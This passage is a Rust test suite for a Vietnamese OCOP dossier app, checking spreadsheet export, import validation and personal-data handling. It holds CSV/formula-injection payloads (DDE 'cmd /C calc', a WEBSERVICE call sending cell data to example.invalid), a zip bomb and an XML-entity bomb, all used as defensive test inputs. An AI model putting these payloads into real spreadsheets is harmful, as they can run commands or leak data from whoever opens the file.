//! Spreadsheets out and in: texts stay texts, types are true, broken files are refused with reasons,
//! and what was filled in is what is listed.

mod common;

use std::collections::BTreeMap;
use std::io::{Cursor, Read as _, Write as _};
use std::panic::{AssertUnwindSafe, catch_unwind};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;

use calamine::{Data, Reader as _, Xlsx};
use common::{Dice, law};
use hoso_ocop::dossier::EntityId;
use hoso_ocop::exchange::spreadsheet::{Cell, Column, Given, Kind, Sheet, read_xlsx, write_csv, write_xlsx};
use hoso_ocop::rulebook::SetNumber;
use hoso_ocop::store::RowQuery;
use hoso_ocop::words::{Explain as _, Language, Message, Words};
use hoso_ocop::workspace::{
    ImportJob, Imported, NewDossier, SheetKind, SheetOptions, Workspace, WorkspaceError, template,
};
use jiff::civil::date;
use proptest::prelude::*;
use rust_xlsxwriter::Workbook;
use tempfile::TempDir;
use zip::write::SimpleFileOptions;
use zip::{ZipArchive, ZipWriter};

/// What a spreadsheet may take for a formula, a link, a call of another program, or a number.
const HOSTILE: [&str; 34] = [
    "=1+1",
    "=HYPERLINK(\"http://example.invalid\",\"bấm\")",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "+84 912 345 678",
    "@tra",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{FF1D}1+1",
    "\u{FF0B}1+1",
    "\u{FF0D}1+1",
    "\u{FF20}SUM(1)",
    "'=1+1",
    "\"=1+1\"",
    "trà;=1+1",
    "trà,=1+1",
    "trà\n=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"A0\")",
    "DDE (\"cmd\",\"/C calc\",\"A0\")",
    "=WEBSERVICE(\"http://example.invalid/\"&A1)",
    "=IMPORTXML(\"http://example.invalid\",\"//a\")",
    "http://example.invalid/a?b=c",
    "mailto:a@example.invalid",
    "file:///etc/hostname",
    "TRUE",
    "0123",
    "1e5",
    "2/6/2027",
    "_x000D_ #REF! <b>&amp;</b> ]]>",
];

fn columns(kinds: &[Kind]) -> Vec<Column> {
    kinds.iter().enumerate().map(|(place, kind)| Column::new(format!("Cột {place}"), *kind, 20.0)).collect()
}

fn texts(texts: &[&str]) -> Sheet {
    let rows = texts.iter().map(|text| vec![Cell::Text((*text).to_owned())]).collect();
    Sheet { name: "Thử".to_owned(), columns: columns(&[Kind::Text]), rows }
}

/// The cells of the first sheet as calamine has them, without the headings; no formula among them.
fn cells(bytes: &[u8]) -> Vec<Vec<Data>> {
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).unwrap();
    let name = book.sheet_names()[0].clone();
    assert_eq!(book.worksheet_formula(&name).unwrap().used_cells().count(), 0, "formulas");
    assert!(book.hyperlinks_by_sheet_name(&name).unwrap().is_empty(), "links");
    let range = book.worksheet_range(&name).unwrap();
    range.rows().skip(1).map(<[Data]>::to_vec).collect()
}

#[test]
fn hostile_texts_stay_texts() {
    let bytes = write_xlsx(&[texts(&HOSTILE)]).unwrap();
    let read: Vec<Data> = cells(&bytes).into_iter().map(|mut row| row.remove(0)).collect();
    let wanted: Vec<Data> = HOSTILE.iter().map(|text| Data::String((*text).to_owned())).collect();
    assert_eq!(read, wanted);
    assert_eq!(write_xlsx(&[texts(&HOSTILE)]).unwrap(), bytes, "one list twice is one file");
}

#[test]
fn no_line_of_csv_begins_a_formula() {
    let csv = write_csv(&texts(&HOSTILE));
    assert!(csv.starts_with('\u{FEFF}'));
    let rows = parsed(&csv);
    assert_eq!(rows.len(), HOSTILE.len() + 1);
    for (row, text) in rows[1..].iter().zip(HOSTILE) {
        let cell = &row[0];
        let starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
        assert!(!cell.starts_with(starts), "{cell:?}");
        assert_eq!(cell.strip_prefix('\'').filter(|_| text.starts_with(starts)).unwrap_or(cell), text);
    }
}

#[test]
fn cells_have_the_types_of_their_columns() {
    let sheet = Sheet {
        name: "Kiểu".to_owned(),
        columns: columns(&[Kind::Text, Kind::Whole, Kind::Decimal, Kind::Date, Kind::YesNo, Kind::Whole]),
        rows: vec![
            vec![
                Cell::Text("05641".to_owned()),
                Cell::Whole(-7),
                Cell::Decimal(1.25),
                Cell::Date(date(2027, 6, 30)),
                Cell::YesNo(true),
                // More than a spreadsheet counts exactly.
                Cell::Whole(i64::MAX),
            ],
            vec![Cell::Empty, Cell::Empty, Cell::Empty, Cell::Date(date(1899, 5, 2))],
        ],
    };
    let read = cells(&write_xlsx(std::slice::from_ref(&sheet)).unwrap());
    assert_eq!(read[0][0], Data::String("05641".to_owned()));
    assert_eq!(read[0][1], Data::Float(-7.0));
    assert_eq!(read[0][2], Data::Float(1.25));
    let Data::DateTime(day) = read[0][3] else { panic!("{:?} is no day", read[0][3]) };
    assert_eq!(day.to_ymd_hms_milli(), (2027, 6, 30, 0, 0, 0, 0));
    assert_eq!(read[0][4], Data::Bool(true));
    assert_eq!(read[0][5], Data::String(i64::MAX.to_string()));
    // Excel knows no day before 1900.
    assert_eq!(read[1][3], Data::String("02/05/1899".to_owned()));
    let csv = parsed(&write_csv(&sheet));
    assert_eq!(csv[1], ["05641", "-7", "1.25", "2027-06-30", "1", "9223372036854775807"]);
    assert_eq!(csv[2], ["", "", "", "1899-05-02", "", ""]);
}

/// LibreOffice opens what we write, and what it makes of it holds the same.
#[test]
fn libreoffice_reads_the_same_values() {
    let folder = TempDir::new().unwrap();
    let mut workspace = common::workspace(&folder.path().join("data"));
    workspace.create_sample().unwrap();
    let list = folder.path().join("danh sách.xlsx");
    workspace.sheet(SheetKind::Papers, &SheetOptions::default()).unwrap().run_to(&list).unwrap();
    let hostile = folder.path().join("hostile.xlsx");
    std::fs::write(&hostile, write_xlsx(&[texts(&HOSTILE)]).unwrap()).unwrap();
    let out = folder.path().join("out");
    convert(
        folder.path(),
        "csv:Text - txt - csv (StarCalc):44,34,76,1,,1066,false,true",
        &out,
        &[&list, &hostile],
    );
    let line = |text: &str| text.replace("\r\n", "\n").replace('\r', "\n");
    let read = parsed(&std::fs::read_to_string(out.join("hostile.csv")).unwrap());
    let read: Vec<String> = read[1..].iter().map(|row| line(&row[0])).collect();
    assert_eq!(read, HOSTILE.map(line));
    // True days are shown as the column says.
    let papers = parsed(&std::fs::read_to_string(out.join("danh sách.csv")).unwrap());
    let ours = cells(&std::fs::read(&list).unwrap());
    assert_eq!(papers.len(), ours.len() + 1);
    let expires = papers[0].iter().position(|title| title == "Ngày hết hạn").unwrap();
    assert!(papers.iter().any(|row| row[expires] == "02/06/2027"), "{papers:?}");
    // And back: its own XLSX of ours is read with the same texts and days; its XLS is refused.
    convert(folder.path(), "xlsx", &out, &[&list, &hostile]);
    let again = cells(&std::fs::read(out.join("danh sách.xlsx")).unwrap());
    assert_eq!(again, ours);
    let grids = read_xlsx(&std::fs::read(out.join("hostile.xlsx")).unwrap()).unwrap();
    let given: Vec<&Given> = grids[0].rows[1..].iter().map(|row| &row.cells[&0]).collect();
    for (given, text) in given.iter().zip(HOSTILE) {
        let Given::Text(given) = given else { panic!("{text:?} became {given:?}") };
        assert_eq!(line(given), line(text));
    }
    convert(folder.path(), "xls", &out, &[&hostile]);
    let old = read_xlsx(&std::fs::read(out.join("hostile.xls")).unwrap()).unwrap_err();
    assert_eq!(old.explain().id, "sheet-old-kind");
}

fn convert(folder: &Path, to: &str, out: &Path, files: &[&PathBuf]) {
    let home = format!("-env:UserInstallation=file://{}", folder.join("home").display());
    let run = Command::new("soffice")
        .args([&home, "--headless", "--convert-to", to, "--outdir"])
        .arg(out)
        .args(files)
        .output();
    let run = run.expect("LibreOffice is there; run scripts/packages");
    assert!(run.status.success(), "{}", String::from_utf8_lossy(&run.stderr));
}

/// The cells of a CSV text, as the standard reads it.
fn parsed(text: &str) -> Vec<Vec<String>> {
    let text = text.strip_prefix('\u{FEFF}').unwrap_or(text);
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let mut letters = text.chars().peekable();
    let mut inside = false;
    while let Some(letter) = letters.next() {
        match (letter, inside) {
            ('"', true) if letters.peek() == Some(&'"') => {
                letters.next();
                cell.push('"');
            }
            ('"', _) => inside = !inside,
            (',', false) => row.push(std::mem::take(&mut cell)),
            ('\r', false) if letters.peek() == Some(&'\n') => {}
            ('\n', false) => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (letter, _) => cell.push(letter),
        }
    }
    rows
}

fn any_cell() -> impl Strategy<Value = Cell> {
    let letters = "[ =+@\\-\t\n\"';,a-zÀ-ỹ0-9_x＝<&\u{1F375}]{1,12}";
    prop_oneof![
        letters.prop_map(Cell::Text),
        (-1_000_000_000_i64..1_000_000_000).prop_map(Cell::Whole),
        (-1_000_000_i32..1_000_000).prop_map(|number| Cell::Decimal(f64::from(number) / 64.0 + 0.001)),
        (0_i64..50_000).prop_map(|days| Cell::Date(date(1900, 3, 1) + jiff::Span::new().days(days))),
        any::<bool>().prop_map(Cell::YesNo),
        Just(Cell::Empty),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn what_is_written_is_read(rows in prop::collection::vec(prop::collection::vec(any_cell(), 1..6), 1..12)) {
        let sheet = Sheet { name: "Thử".to_owned(), columns: columns(&[Kind::Text; 6]), rows };
        let grid = read_xlsx(&write_xlsx(std::slice::from_ref(&sheet)).unwrap()).unwrap().remove(0);
        let csv = parsed(&write_csv(&sheet));
        prop_assert_eq!(csv.len(), sheet.rows.len() + 1);
        for (number, row) in (2..).zip(&sheet.rows) {
            let read = grid.rows.iter().find(|read| read.number == number);
            let line = &csv[number as usize - 1];
            prop_assert_eq!(line.len(), 6);
            for (column, cell) in (0..).zip(row) {
                let given = read.and_then(|row| row.cells.get(&column));
                let text = &line[column as usize];
                match (cell, given) {
                    (Cell::Empty, None) => prop_assert_eq!(text, ""),
                    // Blanks alone say nothing.
                    (Cell::Text(wrote), None) => prop_assert!(wrote.trim().is_empty()),
                    (Cell::Text(wrote), Some(Given::Text(read))) => {
                        prop_assert_eq!(wrote, read);
                        let bare = text.strip_prefix('\'').unwrap_or(text);
                        let plain = wrote.strip_prefix('\'').unwrap_or(wrote);
                        prop_assert_eq!(bare, plain);
                    }
                    (Cell::Whole(wrote), Some(Given::Number(read))) => prop_assert_eq!(*wrote as f64, *read),
                    (Cell::Decimal(wrote), Some(Given::Number(read))) => prop_assert_eq!(wrote, read),
                    (Cell::Date(wrote), Some(Given::Date(read))) => prop_assert_eq!(wrote, read),
                    (Cell::YesNo(wrote), Some(Given::YesNo(read))) => prop_assert_eq!(wrote, read),
                    (cell, given) => prop_assert!(false, "{:?} became {:?}", cell, given),
                }
            }
        }
    }
}

const HEAD: [&str; 5] =
    ["Tên chủ thể", "Tên sản phẩm", "Bộ sản phẩm", "Xã, phường nơi sản xuất", "Điện thoại"];
const GOOD: [&str; 5] = ["Hợp tác xã Đồi Mây", "Trà xanh", "7", "05641", "0912 345 678"];

/// A sheet of texts.
fn book(rows: &[&[&str]]) -> Vec<u8> {
    made(|page| {
        for (row, texts) in (0..).zip(rows) {
            for (column, text) in (0..).zip(*texts) {
                page.write_string(row, column, *text).unwrap();
            }
        }
    })
}

fn made(fill: impl FnOnce(&mut rust_xlsxwriter::Worksheet)) -> Vec<u8> {
    let mut book = Workbook::new();
    fill(book.add_worksheet());
    book.save_to_buffer().unwrap()
}

/// A good sheet with a second row, in which one cell is another.
fn with(column: usize, text: &str) -> Vec<u8> {
    let mut bad = GOOD;
    bad[1] = "Trà đen";
    bad[column] = text;
    book(&[&HEAD, &GOOD, &bad])
}

/// The parts of an archive, changed.
fn repacked(
    bytes: &[u8],
    change: impl Fn(&str, Vec<u8>) -> Option<Vec<u8>>,
    more: &[(&str, &[u8])],
) -> Vec<u8> {
    let mut archive = ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut out = ZipWriter::new(Cursor::new(Vec::new()));
    for place in 0..archive.len() {
        let mut entry = archive.by_index(place).unwrap();
        let name = entry.name().unwrap().to_string();
        let mut held = Vec::new();
        entry.read_to_end(&mut held).unwrap();
        if let Some(held) = change(&name, held) {
            out.start_file(name, SimpleFileOptions::default()).unwrap();
            out.write_all(&held).unwrap();
        }
    }
    for (name, held) in more {
        out.start_file(*name, SimpleFileOptions::default()).unwrap();
        out.write_all(held).unwrap();
    }
    out.finish().unwrap().into_inner()
}

const SHEET: &str = "xl/worksheets/sheet1.xml";

/// A good book whose first sheet is another text.
fn sheet_xml(change: impl Fn(String) -> String) -> Vec<u8> {
    let change = |name: &str, held: Vec<u8>| {
        if name == SHEET { Some(change(String::from_utf8(held).unwrap()).into_bytes()) } else { Some(held) }
    };
    repacked(&book(&[&HEAD, &GOOD]), change, &[])
}

/// The beginning of the container in which old and locked files lie, with a name in it.
fn container(name: &str) -> Vec<u8> {
    let mut bytes = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
    bytes.resize(1024, 0);
    bytes.extend(name.encode_utf16().flat_map(u16::to_le_bytes));
    bytes.resize(4096, 0);
    bytes
}

/// Files of which nothing is taken in, with the sentence that says why.
fn refused() -> Vec<(&'static str, Vec<u8>, &'static str)> {
    let good = book(&[&HEAD, &GOOD]);
    let zeros = vec![b' '; 70 * 1024 * 1024];
    let blanks = made(|page| {
        for row in 0..100_000 {
            page.write_blank(row, 0, &rust_xlsxwriter::Format::new().set_bold()).unwrap();
        }
    });
    let merged = made(|page| {
        page.merge_range(0, 0, 0, 1, "Tên chủ thể", &rust_xlsxwriter::Format::new()).unwrap();
        for (column, text) in (0..).zip(["Tên chủ thể", "", "Tên sản phẩm", "Bộ sản phẩm"]) {
            page.write_string(0, column, text).unwrap();
        }
        for (column, text) in (0..).zip(["Đồi Mây", "", "Trà", "7"]) {
            page.write_string(1, column, text).unwrap();
        }
    });
    let many: Vec<Vec<String>> =
        (0..2_001).map(|row| vec!["Đồi Mây".to_owned(), format!("Trà {row}"), "7".to_owned()]).collect();
    let many = made(|page| {
        for (column, text) in (0..).zip(HEAD) {
            page.write_string(0, column, text).unwrap();
        }
        for (row, cells) in (1..).zip(&many) {
            for (column, text) in (0..).zip(cells) {
                page.write_string(row, column, text).unwrap();
            }
        }
    });
    let far = made(|page| {
        page.write_string(0, 0, "Tên chủ thể").unwrap();
        page.write_string(1, 16_000, "xa").unwrap();
    });
    // A small file that names one long text again and again.
    let long = "chè ".repeat(8_000);
    let repeated = made(|page| {
        for row in 0..1_000 {
            for column in 0..10 {
                page.write_string(row, column, &long).unwrap();
            }
        }
    });
    assert!(repeated.len() < 200_000);
    let no_sheet = |name: &str, held: Vec<u8>| match name {
        "xl/workbook.xml" => {
            let text = String::from_utf8(held).unwrap();
            let (before, rest) = text.split_once("<sheets>").unwrap();
            let after = rest.split_once("</sheets>").unwrap().1;
            Some(format!("{before}<sheets/>{after}").into_bytes())
        }
        _ => Some(held),
    };
    let doctype = "<!DOCTYPE b [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;\">]>";
    let defined = |text: String| text.replacen("<worksheet", &format!("{doctype}<worksheet"), 1);
    let without_sheet = |name: &str, held| (name != SHEET).then_some(held);
    let keep = |_: &str, held| Some(held);
    vec![
        ("empty file", Vec::new(), "sheet-foreign"),
        ("no archive", b"Ten chu the,Ten san pham".to_vec(), "sheet-foreign"),
        ("truncated", good[..good.len() / 2].to_vec(), "sheet-broken"),
        ("another archive", repacked(&good, |_, _| None, &[("a.txt", b"a")]), "sheet-foreign"),
        ("zip bomb", repacked(&good, keep, &[("xl/media/bomb.bin", &zeros)]), "sheet-too-large"),
        (
            "swollen sheet",
            repacked(&good, |name, held| if name == SHEET { Some(zeros.clone()) } else { Some(held) }, &[]),
            "sheet-too-large",
        ),
        ("XML bomb", sheet_xml(defined), "sheet-foreign"),
        ("too large a file", [good.clone(), vec![0; 11 * 1024 * 1024]].concat(), "sheet-too-large"),
        ("one text in many cells", repeated, "sheet-too-large"),
        ("macros", repacked(&good, keep, &[("xl/vbaProject.bin", b"macro")]), "sheet-macros"),
        ("old kind", container("Workbook"), "sheet-old-kind"),
        ("locked", container("EncryptedPackage"), "sheet-locked"),
        ("no sheet", repacked(&good, no_sheet, &[]), "sheet-none"),
        ("sheet that is not there", repacked(&good, without_sheet, &[]), "sheet-broken"),
        ("XML that ends in the middle", sheet_xml(|text| text[..text.len() / 2].to_owned()), "sheet-broken"),
        ("wrong headings", book(&[&["Họ tên", "Năm sinh"], &["A", "1980"]]), "import-no-headings"),
        ("no set", book(&[&["Tên chủ thể", "Tên sản phẩm"], &["A", "Trà"]]), "import-no-column"),
        (
            "duplicate headings",
            book(&[&["Tên chủ thể", "Tên sản phẩm", "Bộ sản phẩm", "TEN CHU THE"], &["A", "Trà", "7", "B"]]),
            "import-two-columns",
        ),
        ("merged heading", merged, "import-merged-headings"),
        ("headings alone", book(&[&HEAD]), "import-no-rows"),
        ("100,000 empty rows", blanks, "import-no-headings"),
        ("too many rows", many, "sheet-too-many-rows"),
        ("too many columns", far, "sheet-too-large"),
    ]
}

/// Files of which the first row is good, and what is said of the second.
fn half_good() -> Vec<(&'static str, Vec<u8>, &'static str)> {
    let mut formula = Vec::new();
    for (kind, id) in [("formula", "import-formula"), ("fault", "import-fault")] {
        let bytes = made(|page| {
            let mut second = GOOD;
            second[1] = "Trà đen";
            for (row, texts) in [HEAD, GOOD, second].iter().enumerate() {
                for (column, text) in (0..).zip(texts) {
                    page.write_string(u32::try_from(row).unwrap(), column, *text).unwrap();
                }
            }
            match kind {
                "formula" => page.write_formula(2, 4, "=1+1").unwrap(),
                _ => page.write_number(2, 4, 4.0).unwrap(),
            };
        });
        let fault = |name: &str, held: Vec<u8>| {
            if name != SHEET || kind == "formula" {
                return Some(held);
            }
            let text = String::from_utf8(held).unwrap();
            let (from, to) = ("<c r=\"E3\"><v>4</v></c>", "<c r=\"E3\" t=\"e\"><v>#REF!</v></c>");
            assert!(text.contains(from), "{text}");
            Some(text.replace(from, to).into_bytes())
        };
        formula.push((kind, repacked(&bytes, fault, &[]), id));
    }
    let dated = |text: &str| {
        let head = ["Tên chủ thể", "Tên sản phẩm", "Bộ sản phẩm", "Ngày thành lập, đăng ký kinh doanh"];
        book(&[&head, &["A", "Trà", "7", "01/02/2020"], &["B", "Trà", "7", text]])
    };
    let yeared = |text: &str| {
        let head = ["Tên chủ thể", "Tên sản phẩm", "Bộ sản phẩm", "Năm đánh giá"];
        book(&[&head, &["A", "Trà", "7", "2027"], &["B", "Trà", "7", text]])
    };
    let long = "chè ".repeat(6_000);
    let merged = made(|page| {
        for (row, texts) in [HEAD, GOOD, GOOD].iter().enumerate() {
            for (column, text) in (0..).zip(texts) {
                page.write_string(u32::try_from(row).unwrap(), column, *text).unwrap();
            }
        }
        page.write_string(2, 1, "Trà đen").unwrap();
        page.merge_range(2, 0, 3, 0, "B", &rust_xlsxwriter::Format::new()).unwrap();
    });
    let mut files = vec![
        ("31/02", dated("31/02/2020"), "import-not-a-date"),
        ("no day", dated("hôm qua"), "import-not-a-date"),
        ("negative number", yeared("-2027"), "import-not-a-number"),
        ("broken number", yeared("20,27"), "import-not-a-number"),
        ("set 27", with(2, "27"), "import-not-a-set"),
        ("set of letters", with(2, "bộ gì đó"), "import-not-a-set"),
        ("unknown commune", with(3, "Xã Không Có"), "import-commune-unknown"),
        ("unknown code", with(3, "99999"), "import-commune-unknown"),
        ("commune of many provinces", with(3, "Tân Tiến"), "import-commune-many"),
        ("too long", with(4, &long), "import-too-long"),
        ("control letter", with(4, "0912\u{7}345"), "import-unprintable"),
        ("no producer", with(0, ""), "import-needed"),
        ("no product", with(1, " "), "import-needed"),
        ("signs alone", with(1, "***"), "import-no-name"),
        ("twice", with(1, "TRÀ  xanh"), "import-twice"),
        ("merged rows", merged, "import-merged"),
    ];
    files.extend(formula);
    files
}

fn read(folder: &Path, workspace: &Workspace, bytes: &[u8]) -> Result<Imported, WorkspaceError> {
    let path = folder.join("in.xlsx");
    std::fs::write(&path, bytes).unwrap();
    let file = ImportJob::new(&path, workspace.current_rulebook()).run()?;
    workspace.preview_import(&file)
}

/// Every sentence is there in both languages, with no gap left open.
fn is_said(message: &Message) {
    for language in [Language::Vietnamese, Language::English] {
        let text = Words::new(language).say(message);
        assert!(text != message.id && !text.contains('{'), "{message:?}: {text}");
    }
}

#[test]
fn broken_files_are_refused_and_bad_rows_are_named() {
    let folder = TempDir::new().unwrap();
    let mut workspace = common::workspace(&folder.path().join("data"));
    workspace.create_sample().unwrap();
    let before =
        (workspace.store().count_operations().unwrap(), workspace.list(&RowQuery::default()).unwrap());
    for (name, bytes, id) in refused() {
        let error = match read(folder.path(), &workspace, &bytes) {
            Err(error) => error.explain(),
            Ok(imported) => panic!("{name} was read: {imported:?}"),
        };
        assert_eq!(error.id, id, "{name}");
        is_said(&error);
    }
    for (name, bytes, id) in half_good() {
        let imported =
            read(folder.path(), &workspace, &bytes).unwrap_or_else(|error| panic!("{name}: {error}"));
        assert_eq!(imported.products.len(), 1, "{name}: {imported:?}");
        let [bad] = imported.bad.as_slice() else { panic!("{name}: {imported:?}") };
        assert_eq!((bad.row, bad.reasons[0].id), (3, id), "{name}");
        bad.reasons.iter().for_each(is_said);
    }
    let after =
        (workspace.store().count_operations().unwrap(), workspace.list(&RowQuery::default()).unwrap());
    assert_eq!(before, after, "looking changes nothing");
}

#[test]
fn a_filled_template_comes_in_as_one_action_and_is_listed_as_it_was_filled() {
    let folder = TempDir::new().unwrap();
    let mut workspace = common::workspace(&folder.path().join("data"));
    let known = NewDossier {
        set: SetNumber(11),
        producer: "Hợp tác xã chè Đồi Mây".to_owned(),
        product: "Trà đen".to_owned(),
    };
    let first = workspace.create_dossier(&known).unwrap();
    workspace.set_field(&first, "producer.phone", "0912 000 001").unwrap();
    let mut sheets = template(law()).sheets().to_vec();
    let guide = &sheets[1];
    assert!(sheets[0].columns.iter().all(|column| {
        guide.rows.iter().any(|row| row.first() == Some(&Cell::Text(column.title.clone())))
    }));
    let place = |title: &str| sheets[0].columns.iter().position(|column| column.title == title).unwrap();
    let width = sheets[0].columns.len();
    let row = |cells: &[(&str, Cell)]| {
        let mut row = vec![Cell::Empty; width];
        for (title, cell) in cells {
            row[place(title)] = cell.clone();
        }
        row
    };
    let text = |text: &str| Cell::Text(text.to_owned());
    let rows = vec![
        row(&[
            ("Tên chủ thể", text("HỢP TÁC XÃ CHÈ ĐỒI MÂY")),
            ("Tên sản phẩm", text("=Trà+xanh")),
            ("Bộ sản phẩm", Cell::Whole(11)),
            ("Điện thoại", text("0912 000 002")),
            ("Mã số thuế", Cell::Whole(100_109_106)),
            ("Ngày thành lập, đăng ký kinh doanh", Cell::Date(date(2019, 3, 12))),
            ("Xã, phường nơi sản xuất", text("xã Tức Tranh, huyện Phú Lương, tỉnh Thái Nguyên")),
        ]),
        row(&[
            ("Tên chủ thể", text("Hộ kinh doanh Suối Trong")),
            ("Loại hình tổ chức", text("HO KINH DOANH")),
            ("Tên sản phẩm", text("Mật ong")),
            ("Bộ sản phẩm", text("Bộ 3")),
            ("Điện thoại", Cell::Whole(912_345_678)),
            ("Ngày thành lập, đăng ký kinh doanh", text("2-6-2021")),
            ("Lần đăng ký đánh giá", text("nâng hạng")),
            ("Năm đánh giá", text("2.027")),
            ("Đợt đánh giá", Cell::Whole(2)),
        ]),
        row(&[
            ("Tên chủ thể", text("Hợp tác xã chè Đồi Mây")),
            ("Tên sản phẩm", text("trà đen")),
            ("Bộ sản phẩm", text("11")),
        ]),
        row(&[
            ("Tên chủ thể", text("Bến Đò")),
            ("Tên sản phẩm", text("Nước mắm")),
            ("Bộ sản phẩm", text("27")),
        ]),
    ];
    sheets[0].rows = rows;
    let path = folder.path().join("điền.xlsx");
    std::fs::write(&path, write_xlsx(&sheets).unwrap()).unwrap();

    let law = Arc::clone(workspace.current_rulebook());
    let file = ImportJob::new(&path, &law).run().unwrap();
    let preview = workspace.preview_import(&file).unwrap();
    let backups = workspace.store().backups().len();
    let imported = workspace.import(&file).unwrap();
    assert_eq!(Imported { backup: None, ..imported.clone() }, preview);
    assert_eq!(imported.new_producers, ["Hộ kinh doanh Suối Trong"]);
    assert_eq!(imported.known_producers, ["HỢP TÁC XÃ CHÈ ĐỒI MÂY"]);
    assert_eq!(imported.existing.iter().map(|line| line.row).collect::<Vec<_>>(), [4]);
    assert_eq!(
        imported.bad.iter().map(|row| (row.row, row.reasons[0].id)).collect::<Vec<_>>(),
        [(5, "import-not-a-set")]
    );
    let notes: Vec<&str> = imported.notes[0].reasons.iter().map(|note| note.id).collect();
    assert_eq!(notes, ["import-commune-old", "import-kept"]);
    assert_eq!(workspace.store().backups().len(), backups + 1);
    assert!(imported.backup.unwrap().is_file());

    let of = |workspace: &Workspace, product: &str| {
        let rows = workspace.list(&RowQuery::default()).unwrap();
        let row = rows.into_iter().find(|row| row.product_name == product).unwrap();
        workspace.dossier(&row.id).unwrap()
    };
    let tea = of(&workspace, "=Trà+xanh");
    assert_eq!(tea.producer, workspace.dossier(&first).unwrap().producer);
    // What was here stays, what was empty is filled.
    assert_eq!(tea.text("producer.phone"), "0912 000 001");
    assert_eq!(tea.text("producer.tax_code"), "0100109106");
    assert_eq!(tea.text("producer.founded"), "2019-03-12");
    assert_eq!(tea.text("producer.commune_code"), "05641");
    let honey = of(&workspace, "Mật ong");
    assert_eq!(honey.set(), Some(SetNumber(3)));
    assert_eq!(honey.text("producer.kind"), "Hộ kinh doanh");
    assert_eq!(honey.text("producer.phone"), "0912345678");
    assert_eq!(honey.text("producer.founded"), "2021-06-02");
    assert_eq!(honey.text("dossier.purpose"), "Nâng hạng");
    assert_eq!((honey.number("dossier.year"), honey.number("dossier.batch")), (Some(2027), Some(2)));

    // As it was filled in, it is listed.
    let listed = workspace.sheet(SheetKind::Dossiers, &SheetOptions::default()).unwrap();
    let out = folder.path().join("danh sách.xlsx");
    listed.run_to(&out).unwrap();
    let read = cells(&std::fs::read(&out).unwrap());
    let mut names: Vec<String> = read.iter().map(|row| row[1].to_string()).collect();
    names.sort();
    assert_eq!(names, ["=Trà+xanh", "Mật ong", "Trà đen"]);

    // The list itself is a sheet that can be imported; everything in it is here.
    let again = ImportJob::new(&out, &law).run().unwrap();
    let again = workspace.preview_import(&again).unwrap();
    assert_eq!((again.products.len(), again.existing.len(), again.bad.len()), (0, 3, 0), "{again:?}");

    // One action, and one undo; the second import is the same as the first.
    assert_eq!(workspace.undo().unwrap().unwrap().label, "action-import");
    assert_eq!(workspace.list(&RowQuery::default()).unwrap().len(), 1);
    assert_eq!(workspace.dossier(&first).unwrap().text("producer.tax_code"), "");
    workspace.redo().unwrap().unwrap();
    assert_eq!(workspace.list(&RowQuery::default()).unwrap().len(), 3);
    let repeated = workspace.import(&file).unwrap();
    assert_eq!((repeated.products.len(), repeated.existing.len(), repeated.backup), (0, 3, None));
    assert!(workspace.verify().unwrap().is_sound());
}

#[test]
fn headings_are_known_in_any_order_with_or_without_marks() {
    let folder = TempDir::new().unwrap();
    let workspace = common::workspace(&folder.path().join("data"));
    for head in [
        ["TÊN SẢN PHẨM (*)", "bo san pham", "ten chu the:"],
        ["Sản phẩm", "Bộ số", "Tên cơ sở"],
        ["product.name", "product.set", "producer.name"],
    ] {
        let bytes =
            book(&[&["DANH SÁCH NĂM 2027"], &[], &head, &["Trà xanh", "7. Chế biến từ chè", "Đồi Mây"]]);
        let imported = read(folder.path(), &workspace, &bytes).unwrap();
        assert_eq!(imported.products.len(), 1, "{head:?}: {imported:?}");
        assert_eq!((imported.products[0].row, imported.products[0].producer.as_str()), (4, "Đồi Mây"));
    }
}

#[test]
fn personal_data_go_along_only_where_they_were_asked_for() {
    let folder = TempDir::new().unwrap();
    let mut workspace = common::workspace(folder.path());
    let id = workspace.create_sample().unwrap();
    let dossier = workspace.dossier(&id).unwrap();
    let said = |workspace: &Workspace, options: &SheetOptions| {
        let job = workspace.sheet(SheetKind::Producers, options).unwrap();
        write_csv(&job.sheets()[0])
    };
    let (phone, people) = (dossier.text("producer.phone"), dossier.text("producer.representative_ethnicity"));
    assert!(!phone.is_empty() && !people.is_empty());
    let plain = said(&workspace, &SheetOptions::default());
    assert!(plain.contains(dossier.text("producer.name")));
    assert!(!plain.contains(phone) && !plain.contains("Dân tộc"));
    let logged = workspace.store().access_log().unwrap().len();
    let personal = said(&workspace, &SheetOptions { personal: true, ..SheetOptions::default() });
    assert!(personal.contains(phone) && !personal.contains("Dân tộc"));
    let sensitive = said(&workspace, &SheetOptions { sensitive: true, ..SheetOptions::default() });
    assert!(sensitive.contains("Dân tộc"));
    assert_eq!(workspace.store().access_log().unwrap().len(), logged + 2);
}

#[test]
fn the_ministrys_table_holds_what_is_certified() {
    let folder = TempDir::new().unwrap();
    let mut workspace = common::workspace(folder.path());
    let id = workspace.create_sample().unwrap();
    let new = NewDossier { set: SetNumber(3), producer: "A".to_owned(), product: "Chưa có".to_owned() };
    workspace.create_dossier(&new).unwrap();
    let table =
        |workspace: &Workspace| workspace.sheet(SheetKind::PtntOcop, &SheetOptions::default()).unwrap();
    assert_eq!(table(&workspace).rows(), 0);
    let enter = |workspace: &mut Workspace, id: &EntityId, facts: &[(&str, &str)]| {
        for (field, value) in facts {
            workspace.set_field(id, field, value).unwrap();
        }
    };
    enter(
        &mut workspace,
        &id,
        &[
            ("certificate.number", "12/GCN-OCOP"),
            ("certificate.stars", "4"),
            ("certificate.issued", "30/06/2026"),
            ("certificate.expires", "30/06/2029"),
            ("dossier.year", "2026"),
            ("figures.revenue.2025", "5360"),
        ],
    );
    let lacking = table(&workspace);
